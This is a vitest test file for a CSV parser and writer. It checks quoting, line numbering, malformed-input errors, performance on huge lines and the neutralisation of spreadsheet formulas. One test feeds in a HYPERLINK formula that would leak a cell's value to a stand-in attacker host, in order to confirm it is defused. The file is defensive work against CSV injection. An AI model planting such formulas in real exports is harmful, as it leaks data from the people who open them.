import { describe, expect, it } from 'vitest';
import { neutraliseFormula, parseCsv, restoreFormula, stringifyCsv } from '../../../shared/domain/csv';

const parsed = (text: string) => {
  const result = parseCsv(text);
  if (!result.ok) throw new Error(result.error.message);
  return result.value;
};

describe('parseCsv', () => {
  it('reads quoted cells holding commas, doubled quotes, line breaks and unicode', () => {
    const doc = parsed('id,text\r\n1,"a, ""b""\r\nc"\r\n2,日本語 ✓ 🎉\r\n');
    expect(doc.records.map((r) => r.cells)).toEqual([
      ['id', 'text'],
      ['1', 'a, "b"\r\nc'],
      ['2', '日本語 ✓ 🎉'],
    ]);
    expect(doc.records.map((r) => r.line)).toEqual([1, 2, 4]);
    expect(doc.records[1]!.quoted).toEqual([false, true]);
    expect(doc).toMatchObject({ lineEnding: '\r\n', trailingNewline: true, bom: false });
  });

  it('detects LF files, a missing final line ending, a BOM and empty cells', () => {
    const doc = parsed('\uFEFFa,b,c\n,"",x');
    expect(doc.records.map((r) => r.cells)).toEqual([['a', 'b', 'c'], ['', '', 'x']]);
    expect(doc.records[1]!.quoted).toEqual([false, true, false]);
    expect(doc).toMatchObject({ lineEnding: '\n', trailingNewline: false, bom: true });
  });

  it('rejects malformed quoting with the line number', () => {
    const unclosed = parseCsv('a,b\n1,"never closed\n2,3\n');
    expect(unclosed.ok).toBe(false);
    if (!unclosed.ok) expect(unclosed.error).toMatchObject({ kind: 'validation', field: 'line 2' });
    const stray = parseCsv('a,b\n1,x"y\n');
    expect(!stray.ok && stray.error.message).toBe('CSV line 2: a double quote inside an unquoted cell; wrap the cell in quotes.');
    const after = parseCsv('a,b\n"1"x,2\n');
    expect(!after.ok && after.error.message).toBe('CSV line 2: unexpected character "x" after a closing quote.');
  });

  it('numbers lines across rows of many quoted cells, some spanning lines, some with doubled quotes', () => {
    const rows = [
      '"h1","h2","h3"',
      '"a","b\nc","d"',
      '"e ""q""\n\nf","g","h\ni"',
      '"j","k","l"',
    ];
    const doc = parsed(`${rows.join('\n')}\n`);
    expect(doc.records.map((r) => r.line)).toEqual([1, 2, 4, 8]);
    expect(doc.records[2]!.cells).toEqual(['e "q"\n\nf', 'g', 'h\ni']);
    // An error after them names the line it is on.
    const broken = parseCsv(`${rows.join('\n')}\n"m",n"o\n`);
    expect(!broken.ok && broken.error.message).toBe('CSV line 9: a double quote inside an unquoted cell; wrap the cell in quotes.');
  });

  it('reads a 4 MB line of a million quoted cells in one pass (each cell once searched the rest of its line for a line break)', () => {
    // Quadratic before: a file at the import limit made of such a line kept the import worker busy for hours.
    const cells = 1_000_000;
    const doc = parsed(`${Array.from({ length: cells }, () => '"ab"').join(',')}\n"x\ny","z"\n`);
    expect(doc.records[0]!.cells).toHaveLength(cells);
    expect(doc.records.map((r) => r.line)).toEqual([1, 2]);
    expect(doc.records[1]!.cells).toEqual(['x\ny', 'z']);
  });

  it('treats an empty input as no records', () => {
    expect(parsed('').records).toEqual([]);
  });
});

describe('stringifyCsv', () => {
  it('quotes only what needs it by default and always with quote: all', () => {
    expect(stringifyCsv([['a', 'b,c', 'say "hi"', 'x\ny']])).toBe('a,"b,c","say ""hi""","x\ny"\r\n');
    expect(stringifyCsv([['a', '']], { quote: 'all', lineEnding: '\n', trailingNewline: false })).toBe('"a",""');
  });

  it('reproduces any parsed file byte for byte from its cells and quoting', () => {
    for (const text of ['"a","b"\r\n"1",2\r\n', 'x,"y\n""z"""\n,\n', '\uFEFFonly', 'é,"ü, ö"\r\n"",\r\n']) {
      const doc = parsed(text);
      const out = stringifyCsv(doc.records, { lineEnding: doc.lineEnding, trailingNewline: doc.trailingNewline, bom: doc.bom });
      expect(out).toBe(text);
    }
  });

  it('still quotes a cell that needs it even when the flag says unquoted', () => {
    expect(stringifyCsv([{ cells: ['a,b'], quoted: [false] }], { trailingNewline: false })).toBe('"a,b"');
  });
});

describe('formula neutralisation', () => {
  const values = ['=1+1', '+1', '-5', '@SUM(A1)', '\tx', '\rx', "'=x", "''=x", "'hello", "'", '', 'plain', '5-3', "it's", "'\t"];

  it('prefixes an apostrophe exactly to values a spreadsheet would run, and to ones already looking neutralised', () => {
    expect(values.map(neutraliseFormula)).toEqual(["'=1+1", "'+1", "'-5", "'@SUM(A1)", "'\tx", "'\rx", "''=x", "'''=x", "'hello", "'", '', 'plain', '5-3', "it's", "''\t"]);
  });

  it('is undone exactly by restoreFormula, for every value', () => {
    for (const value of values) expect(restoreFormula(neutraliseFormula(value))).toBe(value);
  });

  it('is applied to every cell stringifyCsv writes, quoted or not', () => {
    expect(stringifyCsv([['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '-2', 'ok']])).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",'-2,ok\r\n`,
    );
    expect(stringifyCsv([['@x']], { quote: 'all' })).toBe(`"'@x"\r\n`);
  });
});
